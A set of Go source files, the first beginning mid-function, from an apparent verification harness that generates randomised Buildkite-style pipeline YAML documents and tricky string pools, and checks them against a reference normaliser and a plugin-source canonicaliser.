		m.Map = append(m.Map, doc.P("adjustments", al))
	}
	if !m.Has("adjustments") && g.chance(5) {
		// present-but-empty adjustments
		if g.chance(2) {
			e := doc.L()
			e.Seq = []*doc.Node{}
			m.Map = append(m.Map, doc.P("adjustments", e))
			g.feat("matrix:adjustments-empty-list")
		} else {
			m.Map = append(m.Map, doc.P("adjustments", doc.Null()))
			g.feat("matrix:adjustments-null")
		}
	}
	if form >= 7 {
		g.extras(m, "matrix.extras", map[string]bool{"setup": true, "adjustments": true}, 2)
		if len(m.Map) == 1 || g.chance(2) {
			m.Map = append(m.Map, doc.P("note_"+g.uid.Next(), g.value("matrix.extras")))
		}
	}
	g.r.Shuffle(len(m.Map), func(i, j int) { m.Map[i], m.Map[j] = m.Map[j], m.Map[i] })
	return m
}

// cache forms: 0 true, 1 false, 2 null, 3 string, 4 list, 5 empty list, 6 mapping, 7 mapping with scalar paths, 8 empty mapping.
func (g *pgen) cache(form int) *doc.Node {
	g.feat(fmt.Sprintf("cache:form%d", form))
	switch form {
	case 0:
		return doc.B(true)
	case 1:
		return doc.B(false)
	case 2:
		return doc.Null()
	case 3:
		return g.strNode("cache.path")
	case 4:
		l := doc.L()
		l.Seq = []*doc.Node{}
		for i, n := 0, 1+g.r.IntN(3); i < n; i++ {
			l.Seq = append(l.Seq, g.strNode("cache.path"))
		}
		return l
	case 5:
		l := doc.L()
		l.Seq = []*doc.Node{}
		return l
	case 8:
		m := doc.M()
		m.Map = []doc.Pair{}
		return m
	}
	m := doc.M()
	m.Map = []doc.Pair{}
	if form == 7 {
		m.Map = append(m.Map, doc.P("paths", g.strNode("cache.path")))
	} else if g.chance(4) {
		// no paths
	} else {
		l := doc.L()
		l.Seq = []*doc.Node{}
		for i, n := 0, g.r.IntN(3); i < n; i++ {
			l.Seq = append(l.Seq, g.strNode("cache.path"))
		}
		m.Map = append(m.Map, doc.P("paths", l))
	}
	if g.chance(2) {
		m.Map = append(m.Map, doc.P("name", g.typedScalar("cache.name", false, true)))
	}
	if g.chance(2) {
		m.Map = append(m.Map, doc.P("size", Pick(g.r, []*doc.Node{doc.S("20g"), doc.I(20), g.strNode("cache.size")})))
	}
	g.extras(m, "cache.extras", map[string]bool{"paths": true, "name": true, "size": true, "disabled": true}, 2)
	g.r.Shuffle(len(m.Map), func(i, j int) { m.Map[i], m.Map[j] = m.Map[j], m.Map[i] })
	return m
}

func (g *pgen) contentsStep(family []string, class string, valueKind int) *doc.Node {
	m := doc.M()
	m.Map = []doc.Pair{}
	reserved := map[string]bool{"type": true}
	for _, k := range []string{"command", "commands", "plugins", "wait", "waiter", "block", "input", "manual", "trigger", "group"} {
		reserved[k] = true
	}
	fam := Pick(g.r, family)
	var v *doc.Node
	switch {
	case valueKind == 0 && g.chance(2):
		v = doc.Null()
	default:
		v = g.strNode(class + ".label")
	}
	m.Map = append(m.Map, doc.P(fam, v))
	if g.chance(6) {
		m.Map = append(m.Map, doc.P("type", doc.S(fam)))
		g.feat("type:explicit")
	}
	if g.chance(3) {
		m.Map = append(m.Map, doc.P("key", g.idLike(class+".key")))
	}
	if g.chance(4) {
		m.Map = append(m.Map, doc.P("if", g.strNode(class+".if")))
	}
	reserved["key"], reserved["if"] = true, true
	g.extras(m, class, reserved, 4)
	if g.chance(10) {
		// a key of a lower-priority family rides along as ordinary content (wait < block < trigger < group)
		order := []string{"wait", "waiter", "block", "input", "manual", "trigger", "group"}
		rank := map[string]int{"wait": 0, "waiter": 0, "block": 1, "input": 1, "manual": 1, "trigger": 2, "group": 3}
		var lower []string
		for _, k := range order {
			if rank[k] > rank[fam] {
				lower = append(lower, k)
			}
		}
		if len(lower) > 0 {
			if k := Pick(g.r, lower); !m.Has(k) {
				m.Map = append(m.Map, doc.P(k, g.strNode(class+".label")))
				g.feat("contents:lower-priority-family-key")
			}
		}
	}
	g.r.Shuffle(len(m.Map), func(i, j int) { m.Map[i], m.Map[j] = m.Map[j], m.Map[i] })
	return m
}

func (g *pgen) waitStep() *doc.Node {
	g.feat("step:wait")
	return g.contentsStep([]string{"wait", "waiter"}, "wait", 0)
}

func (g *pgen) inputStep() *doc.Node {
	g.feat("step:input")
	vk := 1
	if g.chance(5) {
		vk = 0 // `block: ~` - an input step whose family value is null (possibly its only key)
	}
	m := g.contentsStep([]string{"block", "input", "manual"}, "input", vk)
	if vk == 0 && g.chance(2) {
		return m
	}
	if g.chance(2) {
		f := doc.L()
		f.Seq = []*doc.Node{}
		for i, n := 0, 1+g.r.IntN(2); i < n; i++ {
			f.Seq = append(f.Seq, doc.M(doc.P("text", g.strNode("input.field")), doc.P("key", g.strNode("input.field")), doc.P("required", doc.B(g.chance(2)))))
		}
		m.Map = append(m.Map, doc.P("fields", f))
	}
	return m
}

func (g *pgen) triggerStep() *doc.Node {
	g.feat("step:trigger")
	m := g.contentsStep([]string{"trigger"}, "trigger", 1)
	if g.chance(2) {
		b := doc.M(doc.P("message", g.strNode("trigger.build")), doc.P("env", g.stepEnvLike()))
		m.Map = append(m.Map, doc.P("build", b))
	}
	return m
}

// stepEnvLike: an env-shaped mapping inside untyped contents (stays untyped).
func (g *pgen) stepEnvLike() *doc.Node {
	e := doc.M()
	e.Map = []doc.Pair{}
	for i, n := 0, 1+g.r.IntN(3); i < n; i++ {
		var name string
		if len(g.o.Refs) > 0 || g.o.UniqueStrings {
			name = g.text("trigger.build.env.name")
		} else {
			name = strings.ToUpper(Ident(g.r)) + "_" + g.uid.Next()
		}
		e.Map = append(e.Map, doc.P(name, g.typedScalar("trigger.build.env", true, true)))
	}
	return e
}

func (g *pgen) group(depth int) *doc.Node {
	g.feat(fmt.Sprintf("step:group@%d", depth))
	m := doc.M()
	m.Map = []doc.Pair{}
	reserved := map[string]bool{"type": true, "key": true, "id": true, "identifier": true, "group": true, "label": true, "name": true, "steps": true}
	for _, k := range []string{"command", "commands", "plugins", "wait", "waiter", "block", "input", "manual", "trigger"} {
		reserved[k] = true
	}
	if g.chance(4) {
		m.Map = append(m.Map, doc.P("group", doc.Null()))
		g.feat("group:null")
	} else {
		m.Map = append(m.Map, doc.P("group", g.idLike("group.label")))
	}
	mask := g.r.IntN(8)
	if g.chance(2) {
		mask &= 1
	}
	g.keyAliases(m, mask, false)
	if g.chance(5) {
		// label / name next to `group` stay ordinary extra keys
		m.Map = append(m.Map, doc.P(Pick(g.r, []string{"label", "name"}), g.strNode("group.extra-label")))
		g.feat("group:label-as-extra")
	}
	switch g.r.IntN(10) {
	case 0:
		g.feat("group:steps-absent")
	case 1:
		m.Map = append(m.Map, doc.P("steps", doc.Null()))
		g.feat("group:steps-null")
	default:
		m.Map = append(m.Map, doc.P("steps", g.steps(g.r.IntN(4), depth+1)))
	}
	g.extras(m, "group.extras", reserved, 3)
	g.r.Shuffle(len(m.Map), func(i, j int) { m.Map[i], m.Map[j] = m.Map[j], m.Map[i] })
	return m
}

// CommandStepDoc generates one command step mapping (plain tree).
func CommandStepDoc(r *rand.Rand, o PipeOpts) (*doc.Node, map[string]int, error) {
	if o.MaxGroupDepth == 0 {
		o.MaxGroupDepth = 2
	}
	g := &pgen{r: r, o: o, d: &PipeDoc{Feat: map[string]int{}}}
	st := g.command()
	plain, err := doc.ResolveMerges(st, 200000)
	return plain, g.d.Feat, err
}
