// Package gen holds the workload generators: scalar/string pools, arbitrary
// nested values and the pipeline document grammar.
package gen

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"

	"gopkg.in/yaml.v3"
	"verif/doc"
)

// Tricky strings: look like other YAML types, need quoting, or stress the
// encoders. The last line holds C0 controls, DEL, NEL and a non-printable
// rune beyond the BMP (JSON and YAML spell their escapes differently).
var Tricky = []string{
	"yes", "no", "on", "off", "y", "n", "~", "null", "Null", "NULL", "true", "false", "True", "FALSE",
	"0x1f", "0o17", "017", "1e3", "1_000", ".inf", "-.inf", ".nan", ".NaN", "+1", "-0", "1.0", "3.", ".5", "0b11",
	"2002-08-15", "2001-12-14T21:59:43.10-05:00", "12:30:45", "1:20",
	"<<", "- a", "a: b", "a:b", "#c", "a #c", "&a", "*a", "!!str x", "!x", "---", "...", "--- a", "%YAML",
	"'", "''", "\"", "\"q\"", "it's", `\`, `\\`, `\n`, `a\tb`, "a\tb", "\ta", "a\t", "a\rb", "a\r\nb", "a\nb", "a\nb\n", "a\n\nb", "a\n\n",
	"multi\nline\ntext", "trailing space ", "two  spaces", "[a]", "{a: b}", "[", "]", "{", "}", ",", "a,b", "?", "? a", ":", ": a", "-", "|", ">", "|-", "@a", "`a`",
	"é", "日本語", "\u00a0nbsp", "a\u2028b", "a\u2029b", "\ufeffbom", "a\ufeffb", "😀", "a😀b", "\U0001F600\U0001F3FD", "ß→∀", "\u200bzw",
	"", " ", "  ", "=", "a=b", "null: x", "key: [x", "x\\", "100%", "50% off", "a|b", "a>b", "$", "$$", "%", "0", "00", "1", "-1", "0.0",
	"very long string with several words so that folding or line wrapping in an emitter would kick in somewhere around here and go on for a while longer than eighty characters",
	"\x1b[0mansi", "bell\a", "\v", "tag\U000e0001", "<&>",
}

// LookalikeKeys are strings that, written unquoted, would resolve to another
// YAML type (so an encoder must quote them when they are mapping keys).
var LookalikeKeys = []string{"007", "0x10", "0o7", "1_000", "1.50", "+5", "-0", "~", "null", "Null", "true", "False", "1e3", ".5", "3.", "0b11", "1:20", "2002-08-15", ".inf", "-.INF", ".NaN", "yes", "off", "0", "12", "-7", "1.0"}

// LeadingWSMultiline strings are excluded on the YAML leg by C02/C09's text.
var LeadingWSMultiline = []string{" a\nb", "\na", "\n", " \n", "\ta\nb", "\r\na", "  x\n  y\n"}

// InterpLike strings look like env or matrix interpolation syntax.
var InterpLike = []string{
	"$X", "$$X", `\$X`, "${X}", "${X:-d}", "${X-d}", "${X:?m}", "$${X}", "pre$X.post", "{{matrix}}", "{{ matrix }}", "{{matrix.a}}",
	"{{matrix.}}", "{matrix}", "{{{matrix}}}", "$(cmd)", "`cmd`", "$1", "$", "a$",
}

var identLetters = "abcdefghijklmnopqrstuvwxyz"

// Ident returns a plain identifier.
func Ident(r *rand.Rand) string {
	n := 1 + r.IntN(8)
	var b strings.Builder
	for i := 0; i < n; i++ {
		b.WriteByte(identLetters[r.IntN(len(identLetters))])
	}
	return b.String()
}

// UID yields document-unique identifiers.
type UID struct{ n int }

// Next returns a fresh id like "u17".
func (u *UID) Next() string { u.n++; return fmt.Sprintf("u%d", u.n) }

// Pick returns a random element.
func Pick[T any](r *rand.Rand, xs []T) T { return xs[r.IntN(len(xs))] }

// StringOpts selects the string pools.
type StringOpts struct {
	Tricky    bool
	Interp    bool
	LeadingWS bool // allow multi-line strings that begin with whitespace
}

// String draws a string.
func String(r *rand.Rand, o StringOpts) string {
	if o.Tricky && r.IntN(60) == 0 {
		// a long string (1.5-6 KiB), optionally with an awkward end
		var b strings.Builder
		for b.Len() < 1500+r.IntN(4500) {
			b.WriteString(Ident(r))
			b.WriteByte(" -_/."[r.IntN(5)])
		}
		return b.String() + Pick(r, []string{"", " ", "\n", "\n\n", "é", "\\", "$"})
	}
	x := r.IntN(10)
	switch {
	case x < 4 || (!o.Tricky && !o.Interp):
		return Ident(r)
	case x < 8 && o.Tricky:
		if o.LeadingWS && r.IntN(12) == 0 {
			return Pick(r, LeadingWSMultiline)
		}
		s := Pick(r, Tricky)
		if r.IntN(6) == 0 {
			s = s + Pick(r, Tricky)
		}
		return s
	case o.Interp:
		return Pick(r, InterpLike)
	}
	return Ident(r) + " " + Ident(r)
}

var timestamps = []string{"2002-08-15", "2001-12-14T21:59:43.10-05:00", "2001-12-15T02:59:43.1Z", "2024-02-29"}

// Timestamp returns a YAML timestamp node (plain scalar text plus its value).
func Timestamp(r *rand.Rand) *doc.Node {
	txt := Pick(r, timestamps)
	t, ok := parseYAMLTimestamp(txt)
	if !ok {
		panic("bad timestamp " + txt)
	}
	return doc.T(txt, t)
}

func parseYAMLTimestamp(s string) (time.Time, bool) {
	var v any
	if err := yaml.Unmarshal([]byte(s), &v); err != nil {
		return time.Time{}, false
	}
	t, ok := v.(time.Time)
	return t, ok
}

// ValueOpts controls arbitrary value generation.
type ValueOpts struct {
	Str         StringOpts
	MaxDepth    int
	NoTime      bool
	NoNonFinite bool // always true in practice: non-finite floats are known finding K3
	NoFloat     bool
	SmallInts   bool // integers stay small and exactly representable
	KeyTricky   bool // mapping keys from the tricky pool as well
	UID         *UID // when set, every mapping key carries a unique id suffix
}

// Scalar draws a scalar of any YAML kind.
func Scalar(r *rand.Rand, o ValueOpts) *doc.Node {
	switch r.IntN(12) {
	case 0:
		n := doc.Null()
		if r.IntN(2) == 0 {
			n.Style = doc.StylePlain
		}
		return n
	case 1:
		return doc.B(r.IntN(2) == 0)
	case 2, 3:
		n := doc.I(int64(r.IntN(2000)) - 1000)
		switch r.IntN(8) {
		case 0:
			n.Int = int64(r.Uint32())
			n.IntForm = fmt.Sprintf("0x%x", n.Int)
		case 1:
			n.Int = int64(r.IntN(4096))
			switch r.IntN(5) {
			case 0:
				n.IntForm = fmt.Sprintf("0o%o", n.Int)
			case 1:
				n.IntForm = fmt.Sprintf("0%o", n.Int) // YAML 1.1 octal: 0755
			case 2:
				n.IntForm = fmt.Sprintf("0b%b", n.Int)
			case 3:
				n.Int += 1000
				d := fmt.Sprint(n.Int)
				n.IntForm = d[:len(d)-3] + "_" + d[len(d)-3:] // 1_234
			default:
				n.IntForm = fmt.Sprintf("+%d", n.Int)
			}
			if n.Int == 0 {
				n.IntForm = ""
			}
		case 2:
			if !o.SmallInts {
				n.Int = Pick(r, []int64{r.Int64(), 1 << 31, 1<<31 - 1, -(1 << 31), 1 << 32, 1<<53 + 1, -(1<<53 + 1), 1<<63 - 1, -1 << 63, 4294967295})
			}
		case 3:
			if !o.SmallInts {
				n.Int = -r.Int64()
			}
		}
		return n
	case 4:
		if o.NoFloat {
			return doc.I(int64(r.IntN(10)))
		}
		fs := []float64{0.5, -1.25, 3.0, 1e3, 1e21, 1.5e-7, 123456.789, -0.0, 2.0, 1e100}
		if o.SmallInts {
			fs = []float64{0.5, -1.25, 3.0, 1e3, 1.5e-7, 123456.789, 2.0}
		}
		return doc.F(Pick(r, fs))
	case 5:
		if o.NoTime {
			return doc.S(Ident(r))
		}
		return Timestamp(r)
	}
	return doc.S(String(r, o.Str))
}

// Key draws a mapping key.
func Key(r *rand.Rand, o ValueOpts) string {
	var k string
	if o.KeyTricky && r.IntN(6) == 0 {
		k = Pick(r, LookalikeKeys)
	} else if o.KeyTricky && r.IntN(3) == 0 {
		k = String(r, o.Str)
		if k == "<<" { // known finding K4 (yaml.v3 emits the key << unquoted)
			k = "<<x"
		}
	} else {
		k = Ident(r)
	}
	if len(k) > 300 {
		k = k[:300] // YAML limits implicit mapping keys to 1024 characters; JSON input is read as YAML
	}
	if o.UID != nil {
		k = k + "_" + o.UID.Next()
	}
	return k
}

// Value draws an arbitrarily nested value.
func Value(r *rand.Rand, o ValueOpts, depth int) *doc.Node {
	maxDepth := o.MaxDepth
	if depth == 0 && r.IntN(40) == 0 {
		maxDepth += 5 // occasionally a deeply nested value
		o.MaxDepth = maxDepth
	}
	if depth >= maxDepth || r.IntN(3) != 0 {
		return Scalar(r, o)
	}
	big := 0
	if r.IntN(25) == 0 {
		big = 17 + r.IntN(60) // occasionally a long sequence / wide mapping
	}
	if r.IntN(2) == 0 {
		n := doc.L()
		n.Seq = []*doc.Node{}
		for i, k := 0, r.IntN(4)+big; i < k; i++ {
			n.Seq = append(n.Seq, Value(r, o, depth+1))
		}
		return n
	}
	n := doc.M()
	n.Map = []doc.Pair{}
	used := map[string]bool{}
	for i, k := 0, r.IntN(5)+big; i < k; i++ {
		key := Key(r, o)
		if used[key] {
			continue
		}
		used[key] = true
		n.Map = append(n.Map, doc.P(key, Value(r, o, depth+1)))
	}
	return n
}
