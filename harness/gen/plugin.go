package gen

import (
	"math/rand/v2"
	"strings"
)

const pluginNameChars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-"

func PluginName(r *rand.Rand) string {
	n := 1 + r.IntN(10)
	if r.IntN(40) == 0 {
		n = 120 + r.IntN(80) // a very long name
	}
	var b strings.Builder
	for i := 0; i < n; i++ {
		ch := pluginNameChars[r.IntN(len(pluginNameChars))]
		if i == 0 && ch == '.' {
			ch = 'a'
		}
		b.WriteByte(ch)
	}
	if r.IntN(16) == 0 {
		// names that already carry (part of) the suffix the rule appends
		b.WriteString([]string{"-buildkite-plugin", "-buildkite", "-plugin", "-buildkite-plugin-v2", ".git"}[r.IntN(5)])
	}
	return b.String()
}

// PluginRef draws a git-legal ref over [A-Za-z0-9._/-] without empty or
// dot-only path components.
func PluginRef(r *rand.Rand) string {
	comps := 1 + r.IntN(3)
	parts := make([]string, comps)
	for i := range parts {
		for {
			p := PluginName(r)
			if strings.Trim(p, ".") != "" {
				parts[i] = p
				break
			}
		}
	}
	pool := []string{"v1.2.3", "main", "master", "v4", "feature/x", "1.0", "release-2", "a_b", "0", "v1.0.0-beta.1",
		// refs that are filled in later (matrix tokens, env references) or are not plain ASCII words
		"refs/tags/v1.2.3", "refs/heads/main", "refs/tags/release/2", "{{matrix.version}}", "{{matrix}}", "{{ matrix.v }}", "${VER}", "$VER", "v{{matrix.major}}.x", "é", "v1 x", "release/{{matrix}}"}
	if r.IntN(14) == 0 {
		// a long ref (a generated branch name): 150 to 300 characters
		return "feature/" + strings.Repeat("long-branch-name_", 9+r.IntN(9)) + parts[0]
	}
	if r.IntN(2) == 0 {
		return pool[r.IntN(len(pool))]
	}
	return strings.Join(parts, "/")
}

// PluginSource builds a source from a documented form together with its
// expected canonical form.
func PluginSource(r *rand.Rand) (src, want, form string) {
	withRef := func(s string) (string, string) {
		if r.IntN(3) != 0 {
			ref := PluginRef(r)
			return s + "#" + ref, "#" + ref
		}
		return s, ""
	}
	switch r.IntN(12) {
	case 0, 1:
		name := PluginName(r)
		s, ref := withRef(name)
		return s, "github.com/buildkite-plugins/" + name + "-buildkite-plugin" + ref, "name"
	case 2, 3:
		org, name := PluginName(r), PluginName(r)
		s, ref := withRef(org + "/" + name)
		return s, "github.com/" + org + "/" + name + "-buildkite-plugin" + ref, "org/name"
	case 4:
		lead := []string{"/", "./", "../", ".", "\\", "\\\\server\\share\\", "/abs/path/", "./a/b/", ".hidden/"}[r.IntN(9)]
		s, _ := withRef(lead + PluginName(r))
		return s, s, "path"
	case 5:
		scheme := []string{"https", "http", "ssh", "git", "file", "git+ssh"}[r.IntN(6)]
		host := []string{"github.com", "gitlab.example.com:8443", "git@bitbucket.org", "", "user:pw@host"}[r.IntN(5)]
		p := PluginName(r)
		for k := r.IntN(3); k > 0; k-- {
			p += "/" + PluginName(r)
		}
		if r.IntN(2) == 0 {
			p += ".git"
		}
		s, _ := withRef(scheme + "://" + host + "/" + p)
		return s, s, "scheme-url"
	case 6:
		user := []string{"git@", "", "deploy@"}[r.IntN(3)]
		host := []string{"github.com", "host.xz", "10.0.0.1"}[r.IntN(3)]
		s, _ := withRef(user + host + ":" + PluginName(r) + "/" + PluginName(r) + ".git")
		if user == "" && host == "10.0.0.1" {
			// "10.0.0.1:path" does not parse as a URL and is not a scheme either; still left as written
		}
		return s, s, "scp-style"
	case 7:
		drive := string(rune('A' + r.IntN(26)))
		if r.IntN(2) == 0 {
			drive = strings.ToLower(drive)
		}
		sep := []string{"\\", "/"}[r.IntN(2)]
		s, _ := withRef(drive + ":" + sep + PluginName(r) + sep + PluginName(r))
		return s, s, "windows-drive"
	case 8:
		if r.IntN(3) == 0 {
			// three or more segments by way of an empty or dot segment: trailing slash, doubled slash, "/./"
			p := PluginName(r) + []string{"/", "//", "/./"}[r.IntN(3)] + PluginName(r)
			if strings.Count(p, "/") < 2 || r.IntN(2) == 0 {
				p += "/"
			}
			s, _ := withRef(p)
			return s, s, "three-or-more-segments"
		}
		fallthrough
	case 9:
		host := []string{"github.com", "gitlab.com", "bitbucket.org", "example.com", PluginName(r)}[r.IntN(5)]
		p := host
		for k := 2 + r.IntN(3); k > 0; k-- {
			p += "/" + PluginName(r)
		}
		s, _ := withRef(p)
		return s, s, "three-or-more-segments"
	default:
		// already canonical
		org, name := PluginName(r), PluginName(r)
		s, _ := withRef("github.com/" + org + "/" + name + "-buildkite-plugin")
		return s, s, "canonical"
	}
}
