package refmodel

import (
	"strings"

	"verif/doc"
)

// PluginCanonical is the documented plugin-source rule, for sources of the
// documented forms (no percent-encoding, no query, refs without empty or
// dot-only components).
func PluginCanonical(src string) string {
	if src == "" {
		return ""
	}
	if strings.HasPrefix(src, "/") || strings.HasPrefix(src, ".") || strings.HasPrefix(src, `\`) {
		return src
	}
	base, ref, hasRef := strings.Cut(src, "#")
	// A colon before the first slash means a scheme (https:, ssh:, C:) or an
	// scp-style source (git@host:path): left as written.
	firstSeg, _, _ := strings.Cut(base, "/")
	if strings.Contains(firstSeg, ":") {
		return src
	}
	segs := strings.Split(base, "/")
	suffix := "-buildkite-plugin"
	if hasRef && ref != "" {
		suffix += "#" + ref
	}
	switch len(segs) {
	case 1:
		return "github.com/buildkite-plugins/" + segs[0] + suffix
	case 2:
		return "github.com/" + segs[0] + "/" + segs[1] + suffix
	}
	return src
}

// CanonCacheDisabled rewrites, in a tree read back from the library's
// output, both documented shapes of a disabled cache (JSON `false`, YAML
// `{disabled: true}`) on command steps to the marker mapping used by
// Normalise.
func CanonCacheDisabled(pipelineTree *doc.Node) {
	var steps func(list *doc.Node)
	steps = func(list *doc.Node) {
		if list == nil || list.Kind != doc.KSeq {
			return
		}
		for _, s := range list.Seq {
			if s.Kind != doc.KMap {
				continue
			}
			for i, p := range s.Map {
				if p.Key == "cache" && s.Has("command") {
					v := p.Val
					if (v.Kind == doc.KBool && !v.Bool) || (v.Kind == doc.KMap && len(v.Map) == 1 && v.Map[0].Key == "disabled" && v.Map[0].Val.Kind == doc.KBool && v.Map[0].Val.Bool) {
						s.Map[i].Val = &doc.Node{Kind: doc.KMap, Map: []doc.Pair{doc.P(CacheDisabledMarker, doc.B(true))}}
					}
				}
				if p.Key == "steps" {
					steps(p.Val)
				}
			}
		}
	}
	if pipelineTree.Kind == doc.KMap {
		if sv, ok := pipelineTree.Get("steps"); ok {
			steps(sv)
		}
	}
}
