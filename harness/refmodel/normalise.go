package refmodel

import (
	"strconv"
	"strings"

	"verif/doc"
)

// This file is the harness's independent implementation of the documented
// normal form of a pipeline document, on the harness's own document tree.
// Input: a plain tree (merges resolved, nothing shared). Output: the tree
// that marshalling the parsed pipeline must carry (compare with doc.Loose).

// StepKind is the documented rule table for the kind of a mapping step.
// typ == nil means the step has no `type` key. The second result names the
// cause when the kind is unknown: "type" or "inference".
func StepKind(n *doc.Node) (kind, cause string) {
	if tv, ok := n.Get("type"); ok {
		if tv.Kind != doc.KStr {
			return "error", "non-string type"
		}
		switch tv.Str {
		case "command", "script":
			return "command", ""
		case "wait", "waiter":
			return "wait", ""
		case "block", "input", "manual":
			return "input", ""
		case "trigger":
			return "trigger", ""
		case "group":
			return "group", ""
		}
		return "unknown", "type"
	}
	switch {
	case n.Has("command") || n.Has("commands") || n.Has("plugins"):
		return "command", ""
	case n.Has("wait") || n.Has("waiter"):
		return "wait", ""
	case n.Has("block") || n.Has("input") || n.Has("manual"):
		return "input", ""
	case n.Has("trigger"):
		return "trigger", ""
	case n.Has("group"):
		return "group", ""
	}
	return "unknown", "inference"
}

// ScalarStepKind is the rule for scalar steps.
func ScalarStepKind(s string) string {
	switch s {
	case "wait", "waiter":
		return "wait"
	case "block", "input", "manual":
		return "input"
	}
	return "unknown"
}

// Stats counts what the normaliser saw (for evidence).
type Stats struct {
	Kinds      map[string]int
	Extras     int
	MaxDepth   int
	Shorthands map[string]int
}

func newStats() *Stats { return &Stats{Kinds: map[string]int{}, Shorthands: map[string]int{}} }

func (s *Stats) sh(name string) { s.Shorthands[name]++ }

// Normalise returns the normal form of a pipeline document.
func Normalise(d *doc.Node) (*doc.Node, *Stats) {
	st := newStats()
	out := doc.M()
	out.Map = []doc.Pair{}
	switch d.Kind {
	case doc.KSeq:
		st.sh("pipeline:bare-list")
		out.Map = append(out.Map, doc.P("steps", normSteps(d, st, 0)))
		out.AbsentOK = map[string]bool{"env": true}
		return out, st
	case doc.KMap:
		st.sh("pipeline:mapping")
	default:
		return d.Clone(), st
	}
	consumed := map[string]bool{}
	// steps
	sv, has := d.Get("steps")
	consumed["steps"] = true
	if !has || sv.Kind == doc.KNull {
		if has {
			st.sh("steps:null")
		}
		out.Map = append(out.Map, doc.P("steps", doc.L()))
		out.Map[len(out.Map)-1].Val.Seq = []*doc.Node{}
	} else {
		out.Map = append(out.Map, doc.P("steps", normSteps(sv, st, 0)))
	}
	// env
	consumed["env"] = true
	out.AbsentOK = map[string]bool{"env": true}
	if ev, ok := d.Get("env"); ok && ev.Kind == doc.KMap && len(ev.Map) > 0 {
		em := stringifyMap(ev)
		em.OrderedKeys = true // the pipeline env block is order-preserving
		out.Map = append(out.Map, doc.P("env", em))
	}
	copyExtras(d, out, consumed, st, 1)
	return out, st
}

// MarkOrdered flags every mapping in the subtree as order-significant.
func MarkOrdered(n *doc.Node) *doc.Node {
	n.Walk(func(x *doc.Node) {
		if x.Kind == doc.KMap {
			x.OrderedKeys = true
		}
	})
	return n
}

func copyExtras(src, dst *doc.Node, consumed map[string]bool, st *Stats, depth int) {
	for _, p := range src.Map {
		if consumed[p.Key] {
			continue
		}
		// the extras level itself is a Go map; everything nested below keeps document order
		dst.Map = append(dst.Map, doc.P(p.Key, MarkOrdered(p.Val.Clone())))
		st.Extras++
		if d := p.Val.Depth() + depth; d > st.MaxDepth {
			st.MaxDepth = d
		}
	}
}

// stringify marks a scalar as "becomes a string, value preserved".
func stringify(n *doc.Node) *doc.Node {
	c := n.Clone()
	if c.Kind == doc.KStr {
		return c
	}
	c.Stringified = true
	return c
}

func stringifyMap(m *doc.Node) *doc.Node {
	out := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	for _, p := range m.Map {
		out.Map = append(out.Map, doc.P(p.Key, stringify(p.Val)))
	}
	return out
}

func stringifyList(l *doc.Node) *doc.Node {
	out := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
	if l.Kind == doc.KSeq {
		for _, e := range l.Seq {
			out.Seq = append(out.Seq, stringify(e))
		}
	} else if l.Kind != doc.KNull {
		out.Seq = append(out.Seq, stringify(l))
	}
	return out
}

// ScalarString is the exact string a scalar becomes where the harness needs
// one (command joins): strings as they are, integers in decimal, booleans as
// true/false, null as the empty string. Floats are not used in such positions.
func ScalarString(n *doc.Node) string {
	switch n.Kind {
	case doc.KStr:
		return n.Str
	case doc.KInt:
		return strconv.FormatInt(n.Int, 10)
	case doc.KBool:
		return strconv.FormatBool(n.Bool)
	case doc.KNull:
		return ""
	case doc.KFloat:
		return strconv.FormatFloat(n.Float, 'g', -1, 64)
	}
	return n.Str
}

func normSteps(list *doc.Node, st *Stats, depth int) *doc.Node {
	out := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
	if list.Kind != doc.KSeq {
		return out
	}
	for _, s := range list.Seq {
		out.Seq = append(out.Seq, normStep(s, st, depth))
	}
	return out
}

func normStep(s *doc.Node, st *Stats, depth int) *doc.Node {
	if s.Kind == doc.KStr {
		st.Kinds["scalar-"+ScalarStepKind(s.Str)]++
		return s.Clone()
	}
	if s.Kind != doc.KMap {
		return s.Clone()
	}
	kind, _ := StepKind(s)
	st.Kinds[kind]++
	switch kind {
	case "command":
		return normCommand(s, st)
	case "group":
		return normGroup(s, st, depth)
	}
	// wait, input, trigger, unknown: verbatim
	c := s.Clone()
	MarkOrdered(c)
	if kind != "unknown" {
		c.OrderedKeys = false // contents level is a Go map; nested levels keep order
	}
	st.Extras += len(c.Map)
	if d := c.Depth(); d > st.MaxDepth {
		st.MaxDepth = d
	}
	return c
}

// pick implements "primary if the primary key is present, else the first
// present alias (which is then consumed)".
func pick(s *doc.Node, consumed map[string]bool, primary string, aliases ...string) (*doc.Node, bool) {
	if v, ok := s.Get(primary); ok {
		consumed[primary] = true
		return v, true
	}
	for _, a := range aliases {
		if v, ok := s.Get(a); ok {
			consumed[a] = true
			return v, true
		}
	}
	return nil, false
}

func normCommand(s *doc.Node, st *Stats) *doc.Node {
	out := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}}
	out.AbsentOK = map[string]bool{"env": true, "plugins": true, "matrix": true, "cache": true}
	consumed := map[string]bool{}

	// command / commands
	var cmdSrc *doc.Node
	if v, ok := s.Get("commands"); ok {
		consumed["commands"] = true
		cmdSrc = v
		if s.Has("command") {
			consumed["command"] = true // overwritten by the join of `commands`
			st.sh("command:both")
		} else {
			st.sh("command:commands")
		}
	} else if v, ok := s.Get("command"); ok {
		consumed["command"] = true
		cmdSrc = v
		st.sh("command:command")
	} else {
		st.sh("command:absent")
	}
	cmd := ""
	if cmdSrc != nil {
		switch cmdSrc.Kind {
		case doc.KSeq:
			parts := make([]string, len(cmdSrc.Seq))
			for i, e := range cmdSrc.Seq {
				parts[i] = ScalarString(e)
			}
			cmd = strings.Join(parts, "\n")
			st.sh("command:list")
		case doc.KNull:
			st.sh("command:null")
		default:
			cmd = ScalarString(cmdSrc)
		}
	}
	out.Map = append(out.Map, doc.P("command", doc.S(cmd)))

	// key, label
	if v, ok := pick(s, consumed, "key", "id", "identifier"); ok {
		if str := stringify(v); !(v.Kind == doc.KNull || (v.Kind == doc.KStr && v.Str == "")) {
			out.Map = append(out.Map, doc.P("key", str))
		}
	}
	if v, ok := pick(s, consumed, "label", "name"); ok {
		if str := stringify(v); !(v.Kind == doc.KNull || (v.Kind == doc.KStr && v.Str == "")) {
			out.Map = append(out.Map, doc.P("label", str))
		}
	}

	// plugins
